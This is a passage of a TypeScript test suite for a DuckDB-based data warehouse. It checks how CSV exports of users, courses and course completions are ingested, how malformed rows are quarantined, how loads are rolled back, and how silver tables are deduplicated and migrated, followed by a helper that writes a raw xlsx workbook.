  it('numbers rows by their line in a file large enough for DuckDB to read in parallel', async () => {
    const paths = writeMinimalExport(landing);
    // About 20 MB: several of DuckDB's read ranges, so both threads parse parts of the file at once,
    // with records DuckDB rejects (which it leaves out of its count) in several of them.
    const lines = [header('course_completions')];
    // One completion per learner of course 100 (a learner and a course are one row of the file).
    for (let i = 0; i < 400_000; i++) lines.push(`${1000 + i},${1 + i},100,1700000000,1700100000,1700200000,50,,,`);
    const bad: [number, string, string][] = [
      [2, '7,1,100,1700000000,0,0', 'the row has fewer columns than the header'],
      [123_458, '9999999,x,100,1700000000,0,0,10,,,', 'userid is not a whole number: "x"'],
      [200_000, '7,1,100,1700000000,0,0,10,"x"y,,', 'a quote is not closed, or stray text follows a closing quote'],
      [260_001, '7,1,100,1700000000,0,0,10,caf\u00e9,,', 'the row is not valid UTF-8'],
      [350_002, '8888888,1,100,1700000000,0,0', 'the row has fewer columns than the header'],
      [400_001, '7,1,100,1700000000,0,0,10,,,,x', 'the row has more columns than the header'],
    ];
    for (const [line, text] of bad) lines[line - 1] = text;
    const big = path.join(landing, 'course_completions.csv');
    // Written as Latin-1, so the one non-ASCII letter is a byte that is not UTF-8.
    fs.writeFileSync(big, lines.join('\n') + '\n', 'latin1');
    const report = await ingestFiles(wh, tenant, files([...paths.filter((p) => !p.endsWith('course_completions.csv')), big]), nextBatch());
    expect(report.files.find((f) => f.table === 'course_completions')).toMatchObject({ rowsRead: 400_000, rowsLoaded: 399_994, rowsQuarantined: 6 });
    expect(await rows("select _source_line, reason from bronze._quarantine where table_name = 'course_completions' order by 1")).toEqual(
      bad.map(([line, , reason]) => ({ _source_line: line, reason })),
    );
    // Every loaded row sits on the line its id says (id 1000 + i is on line i + 2), shifted past the rejected records.
    expect(await rows(`select count(*) as n, count(distinct _source_line) as lines from bronze.course_completions
      where _source_line <> cast(id as bigint) - 1000 + 2`)).toEqual([{ n: 0, lines: 0 }]);
    expect(await rows('select count(*) as n from bronze.course_completions')).toEqual([{ n: 399_994 }]);
  });

  it('numbers rows by the line they start on in a file large enough for DuckDB to read in parallel, with quoted line breaks in several of its read ranges', async () => {
    const paths = writeMinimalExport(landing);
    const records = [header('course_completions')];
    for (let i = 0; i < 400_000; i++) {
      // Every 4,000th row's RPL grade over two lines (more places where the numbering shifts than
      // the loader handles with a CASE), and two ragged records over three lines.
      const rplgrade = i % 4_000 === 7 ? '"passed\nwith merit"' : '';
      records.push(`${1000 + i},${1 + i},100,1700000000,1700100000,1700200000,50,${rplgrade},,`);
    }
    records[150_000] = '9150000,1,100,1700000000,0,0,10,"three\r\nline\r\ngrade",,,x';
    records[330_000] = '9330000,1,100,1700000000,0,0,"three\nline\nstatus"';
    records[250_000] = '9250000,x,100,1700000000,0,0,10,,,';
    const big = writeCsv(landing, 'course_completions.csv', records);
    const lineOfId = linesOfIds(big);
    const report = await ingestFiles(wh, tenant, files([...paths.filter((p) => !p.endsWith('course_completions.csv')), big]), nextBatch());
    const completions = report.files.find((f) => f.table === 'course_completions')!;
    expect(completions).toMatchObject({ rowsRead: 400_000, rowsLoaded: 399_997, rowsQuarantined: 3 });
    expect(await rows("select _source_line, reason from bronze._quarantine where table_name = 'course_completions' order by 1")).toEqual([
      { _source_line: lineOfId.get('9150000'), reason: 'the row has more columns than the header' },
      { _source_line: lineOfId.get('9250000'), reason: 'userid is not a whole number: "x"' },
      { _source_line: lineOfId.get('9330000'), reason: 'the row has fewer columns than the header' },
    ]);
    const loaded = await rows('select id, _source_line from bronze.course_completions');
    expect(loaded).toHaveLength(399_997);
    expect(loaded.filter((r) => r._source_line !== lineOfId.get(r.id as string)).slice(0, 5)).toEqual([]);
  });

  it('leaves no trace of a load that fails part-way, and a build never sees its rows', async () => {
    await ingestFiles(wh, tenant, files(writeMinimalExport(landing)), nextBatch());
    const second = path.join(wh.landingDir(tenant), 'second');
    const paths = writeMinimalExport(second);
    writeCsv(second, 'users.csv', [header('users'), '3,alan,E3,Alan,Turing,alan@example.com,Eng,London,GB,99,0,0,1700000000,1710000000']);
    const failed = await ingestFiles(wh, tenant, files(paths), {
      ...nextBatch(),
      // The third file disappears once the first two are in bronze.
      onProgress: ({ index }) => {
        if (index === 2) fs.rmSync(paths[2]);
      },
    }).catch((e: unknown) => e);
    expect(String((failed as Error).message)).toBe('courses.csv was removed from the landing area while it was being loaded');
    expect(await rows('select count(*) as n from bronze._loads')).toEqual([{ n: 1 }]);
    expect(await rows('select id from bronze.users order by id')).toEqual([{ id: '1' }, { id: '2' }]);
    expect(await rows('select count(*) as n from bronze._files where batch_seq > 1')).toEqual([{ n: 0 }]);
    // Nor on disk: the failed load's bronze files are gone, the first load's stay.
    expect(fs.readdirSync(path.join(wh.tenantDir(tenant), 'bronze', 'users')).sort()).toEqual(['00000000.parquet', '00000001.parquet']);
    await buildTenant(wh, tenant, { asOf: new Date('2025-06-30T00:00:00Z'), stages: ['silver'] });
    expect(await rows('select id from silver.users order by id')).toEqual([{ id: 1 }, { id: 2 }]);
  });

  it('keeps one row per key in silver: the latest load wins, then the last line of that load', async () => {
    await ingestFiles(wh, tenant, files(writeMinimalExport(landing)), nextBatch());
    const later = path.join(wh.landingDir(tenant), 'later');
    const courses = writeCsv(later, 'courses.csv', [
      header('courses'),
      '100,Fire safety (old name),FS,C100,1,0,1,1700000000,1',
      '100,Fire safety (2025),FS,C100,1,0,1,1700000000,1',
      '101,First aid,FA,C101,1,2,1,1700000000,1',
    ]);
    // A key of two columns (user x course): user 1's completion of course 100 arrives again, twice.
    const completions = writeCsv(later, 'course_completions.csv', [
      header('course_completions'),
      '2000,1,100,1700000000,1700100000,0,25,,,',
      '2001,1,100,1700000000,1700100000,1700300000,50,,,',
      '2002,1,101,1700000000,0,0,10,,,',
    ]);
    await ingestFiles(wh, tenant, files([courses, completions]), nextBatch());
    await buildTenant(wh, tenant, { asOf: new Date('2025-06-30T00:00:00Z'), stages: ['silver'] });
    expect(await rows('select id, fullname, _batch_seq, _source_line from silver.courses order by id')).toEqual([
      { id: 100, fullname: 'Fire safety (2025)', _batch_seq: 2, _source_line: 3 },
      { id: 101, fullname: 'First aid', _batch_seq: 2, _source_line: 4 },
    ]);
    expect(await rows('select userid, course, id, status, _batch_seq from silver.course_completions order by userid, course')).toEqual([
      { userid: 1, course: 100, id: 2001, status: 50, _batch_seq: 2 },
      { userid: 1, course: 101, id: 2002, status: 10, _batch_seq: 2 },
      { userid: 2, course: 100, id: 1001, status: 10, _batch_seq: 1 },
    ]);
  });

  it('keeps one silver file per table, the latest build\'s, and remakes the tables of a tenant built before', async () => {
    await ingestFiles(wh, tenant, files(writeMinimalExport(landing)), nextBatch());
    // Built before silver staging tables were Parquet files: a table with last build's rows.
    await wh.execute(tenant, 'create table silver.courses as select 1 as id');
    const silverFiles = () => fs.readdirSync(path.join(wh.tenantDir(tenant), 'silver', 'courses'));
    const build = () => buildTenant(wh, tenant, { asOf: new Date('2025-06-30T00:00:00Z'), stages: ['silver'] });
    await build();
    expect(await rows("select table_type from information_schema.tables where table_schema = 'silver' and table_name = 'courses'")).toEqual([{ table_type: 'VIEW' }]);
    expect(await rows('select id, fullname from silver.courses')).toEqual([{ id: 100, fullname: 'Fire safety' }]);
    const first = silverFiles();
    expect(first).toHaveLength(1);
    await build();
    expect(silverFiles()).toHaveLength(1);
    expect(silverFiles()).not.toEqual(first);
    expect(await rows('select count(*) as n from silver.course_completions')).toEqual([{ n: 2 }]);
  });

  it('keeps the rows of a tenant loaded when bronze was a DuckDB table, and loads on top of them', async () => {
    // The layout before bronze moved to Parquet files: a table per file, rows of one finished load.
    const users = ALL_FILES.find((s) => s.name === 'users')!;
    await wh.execute(tenant, bronzeTableDdl(users));
    await wh.execute(tenant, `create table bronze._loads (batch_id string, batch_seq integer, source string, ingested_at timestamp, as_of timestamp)`);
    await wh.execute(tenant, `insert into bronze._loads values ('old', 1, 'cli', '2025-01-01', null)`);
    const old = users.columns.map((c) => (c.name === 'id' ? "'7'" : c.kind === 'text' ? "'x'" : "'0'"));
    await wh.execute(tenant, `insert into bronze.users values (${old.join(', ')}, null, 'old', 1, 'users.csv', 2, '2025-01-01', 'abc', null)`);

    await ingestFiles(wh, tenant, files(writeMinimalExport(landing)), nextBatch());
    expect(await rows("select table_type from information_schema.tables where table_schema = 'bronze' and table_name = 'users'")).toEqual([{ table_type: 'VIEW' }]);
    expect(await rows('select id, _batch_seq, _source_line from bronze.users order by _batch_seq, id')).toEqual([
      { id: '7', _batch_seq: 1, _source_line: 2 },
      { id: '1', _batch_seq: 2, _source_line: 2 },
      { id: '2', _batch_seq: 2, _source_line: 3 },
    ]);
  });
});

const MAIN = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';

/** A workbook of one sheet "Calendar" written part by part (its sheet's XML as given), as any program may write one. */
async function writeRawWorkbook(file: string, sheetXml: string, sharedStringsXml?: string): Promise<string> {
  // The zip library exceljs writes with.
  const JSZip = createRequire(require.resolve('exceljs'))('jszip') as new () => {
    file(name: string, content: string): void;
    generateAsync(options: object): Promise<Buffer>;
  };
  const zip = new JSZip();
  const rel = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  zip.file('[Content_Types].xml', '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/></Types>');
  zip.file('_rels/.rels', `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${rel}/officeDocument" Target="xl/workbook.xml"/></Relationships>`);
  zip.file('xl/workbook.xml', `<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="${MAIN}" xmlns:r="${rel}"><sheets><sheet name="Calendar" sheetId="1" r:id="rId1"/></sheets></workbook>`);
  zip.file('xl/_rels/workbook.xml.rels', `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${rel}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`);
  if (sharedStringsXml) zip.file('xl/sharedStrings.xml', sharedStringsXml);
  zip.file('xl/worksheets/sheet1.xml', sheetXml);
  fs.mkdirSync(path.dirname(file), { recursive: true });
  fs.writeFileSync(file, await zip.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE' }));
  return file;
}
